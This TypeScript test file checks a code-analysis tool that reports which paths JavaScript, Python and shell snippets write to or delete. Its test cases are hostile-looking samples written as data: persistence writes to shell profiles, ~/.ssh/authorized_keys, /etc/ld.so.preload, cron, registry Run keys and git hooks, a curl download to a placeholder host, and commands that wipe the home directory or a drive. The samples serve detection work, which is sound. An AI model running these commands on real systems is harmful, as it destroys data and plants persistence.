import t, { type Test } from 'tap'
import { summariseJavascript } from '../../src/analysis/javascript/summarise.ts'
import { summarisePython } from '../../src/analysis/python/summarise.ts'
import { summariseShell } from '../../src/analysis/shell/summarise.ts'
import type { CodeSummary } from '../../src/analysis/code.ts'

interface Case {
  readonly what: string
  readonly code: string
  readonly writes?: readonly string[]
  readonly deletes?: readonly string[]
}

const JAVASCRIPT: readonly Case[] = [
  {
    what: 'a stream',
    code: `import { createWriteStream } from 'fs'; createWriteStream(process.env.HOME + '/.zshrc', { flags: 'a' })`,
    writes: ['~/.zshrc'],
  },
  {
    what: 'a link to it',
    code: `require('fs').symlinkSync('/tmp/x', '/etc/systemd/system/x.service')`,
    writes: ['/etc/systemd/system/x.service'],
  },
  {
    what: 'a file that is opened to append',
    code: `const fs = require('fs'); const to = fs.openSync(require('os').homedir() + '/.profile', 'a'); fs.writeSync(to, 'x')`,
    writes: ['~/.profile'],
  },
  {
    what: 'a file that is opened to read',
    code: `require('fs').openSync(require('os').homedir() + '/.profile', 'r')`,
  },
  {
    what: 'above the own folder',
    code: `require('fs').writeFileSync(require('path').resolve(__dirname, '../..', '.vscode/tasks.json'), '{}')`,
    writes: ['../../.vscode/tasks.json'],
  },
  {
    what: 'the working directory',
    code: `require('fs').writeFileSync(require('path').join(process.cwd(), 'CLAUDE.md'), '')`,
    writes: ['CLAUDE.md'],
  },
  {
    what: 'behind many other files',
    code: `const fs = require('fs')\n${Array.from({ length: 30 }, (_, at) => `fs.writeFileSync('a${at}', '')`).join('\n')}\nfs.writeFileSync('/etc/ld.so.preload', 'x')`,
    writes: ['/etc/ld.so.preload'],
  },
  {
    what: 'two commands of one line',
    code: `require('child_process').exec('echo x >>~/.bashrc; launchctl load ~/x.plist')`,
    writes: ['~/.bashrc', '~/Library/LaunchAgents'],
  },
  {
    what: 'the home directory by a promise',
    code: `import os from 'os'; import { rm } from 'fs/promises'; await rm(os.homedir() + '/', { recursive: true })`,
    deletes: ['~/'],
  },
  {
    what: 'the home directory by a command',
    code: `const { homedir } = require('os'); require('child_process').spawn('rm', ['-rf', homedir()])`,
    deletes: ['~'],
  },
  {
    what: 'a folder of the home directory, and one file',
    code: `const fs = require('fs'); const { homedir } = require('os'); fs.rmSync(homedir() + '/x', { recursive: true }); fs.rmSync(homedir())`,
  },
  {
    what: 'what an argument of a function names, and it is not known',
    code: `const fs = require('fs'); const clean = (name) => fs.rmSync('/' + name, { recursive: true }); clean(process.argv[2])`,
  },
  { what: 'a drive', code: `require('fs-extra').removeSync('C:\\\\')`, deletes: ['C:\\'] },
]

const PYTHON: readonly Case[] = [
  {
    what: 'a file by its number',
    code: `import os\nos.write(os.open(os.environ['HOME'] + '/.bashrc', os.O_WRONLY | os.O_APPEND), b'x')`,
    writes: ['~/.bashrc'],
  },
  {
    what: 'a copy',
    code: `import shutil, pathlib\nshutil.copyfile('a', pathlib.Path.home() / '.ssh' / 'authorized_keys')`,
    writes: ['~/.ssh/authorized_keys'],
  },
  {
    what: 'a path that is opened',
    code: `from pathlib import Path\nwith Path('~/.zshrc').expanduser().open('a') as file:\n    file.write('x')`,
    writes: ['~/.zshrc'],
  },
  {
    what: 'text that is run',
    code: `exec("import os\\nopen('/etc/cron.d/x', 'w').write('x')")`,
    writes: ['/etc/cron.d/x'],
  },
  {
    what: 'a start file of Python',
    code: `import sysconfig, os\nopen(os.path.join(sysconfig.get_path('purelib'), 'sitecustomize.py'), 'w')`,
    writes: ['\uE000/site-packages/\uE000/sitecustomize.py'],
  },
  {
    what: 'a command',
    code: `import subprocess\nsubprocess.run(['schtasks', '/create', '/tn', 'x', '/tr', 'y'])`,
    writes: ['C:\\Windows\\System32\\Tasks'],
  },
  {
    what: 'a key of the registry that is read',
    code: `import winreg\nwinreg.QueryValueEx(winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'), 'x')`,
  },
  { what: 'the home directory', code: `import os, shutil\nshutil.rmtree(os.getenv('HOME'))`, deletes: ['~'] },
  { what: 'the working directory', code: `import os, shutil\nshutil.rmtree(os.getcwd())`, deletes: ['.'] },
  { what: 'a cache', code: `import os, shutil\nshutil.rmtree(os.path.expanduser('~/.cache/sample'))` },
  { what: 'files that are read', code: `import os\nopen(os.path.expanduser('~/.bashrc')).read()` },
]

const SHELL: readonly Case[] = [
  { what: 'a file behind tee', code: 'echo x | sudo tee -a /etc/ld.so.preload', writes: ['/etc/ld.so.preload'] },
  { what: 'a copy', code: 'cp x.service "$HOME/.config/systemd/user/"', writes: ['~/.config/systemd/user/'] },
  { what: 'a folder that is entered before', code: 'cd "$HOME" && echo x >> .profile', writes: ['~/.profile'] },
  { what: 'a shell within', code: `bash -c 'echo x >> ~/.bashrc'`, writes: ['~/.bashrc'] },
  { what: 'a table of times', code: 'crontab x.txt', writes: ['/var/spool/cron/crontabs'] },
  { what: 'times that are listed', code: 'crontab -l' },
  {
    what: 'hooks of the repository',
    code: 'git config core.hooksPath .hooks',
    writes: ['\uE000/.git/config: core.hooksPath'],
  },
  { what: 'a setting that is asked', code: 'git config --get core.hooksPath && git config core.hooksPath' },
  {
    what: 'a key of the registry',
    code: 'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v x /d y',
    writes: ['HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'],
  },
  { what: 'a key that is asked', code: 'reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' },
  {
    what: 'a download',
    code: 'curl -s https://c.invalid/k -o ~/.ssh/authorized_keys',
    writes: ['~/.ssh/authorized_keys'],
  },
  {
    what: 'PowerShell',
    code: 'powershell -Command "Add-Content -Path $HOME/.bashrc -Value x"',
    writes: ['~/.bashrc'],
  },
  { what: 'all of the home directory', code: 'rm -rf ~/* ~/.[!.]*', deletes: ['~/*', '~/.[!.]*'] },
  { what: 'files that are found', code: 'find "$HOME" -type f -delete', deletes: ['~'] },
  { what: 'a drive', code: 'del /f /s /q C:\\', deletes: ['C:\\'] },
  { what: 'a quoted command of cmd', code: 'cmd /c "rd /s /q %USERPROFILE%"', deletes: ['~'] },
  { what: 'what is free', code: 'cipher /W:%USERPROFILE%', deletes: ['~'] },
  { what: 'the folder of a variable', code: 'rm -rf "$DIR" "$DIR"/* ${DIR}/ ~/.cache/x /tmp/x ./* *' },
  { what: 'an own folder that is entered before', code: 'cd build && rm -rf * .' },
  { what: 'one empty folder', code: 'rmdir ~ ; rm ~' },
  { what: 'words that are printed', code: 'echo "do not rm -rf / or write >> ~/.bashrc today"' },
]

function check(t: Test, cases: readonly Case[], summarise: (code: string) => CodeSummary): void {
  for (const { what, code, writes = [], deletes = [] } of cases) {
    const places = summarise(code).capabilities.get('filesystem-write') ?? []
    t.same(
      {
        writes: places.flatMap((place) => place.writes ?? []).toSorted(),
        deletes: places.flatMap((place) => place.deletes ?? []).toSorted(),
      },
      { writes: writes.toSorted(), deletes: deletes.toSorted() },
      what,
    )
  }
}

t.test('what JavaScript sideEffectsOf', async (t) =>
  check(t, JAVASCRIPT, (code) => summariseJavascript('index.js', code)),
)

t.test('what Python sideEffectsOf', async (t) => {
  check(t, PYTHON, (code) => summarisePython('sample.py', code))
})

t.test('what shell commands touch', async (t) => check(t, SHELL, (code) => summariseShell('sample.sh', code)))
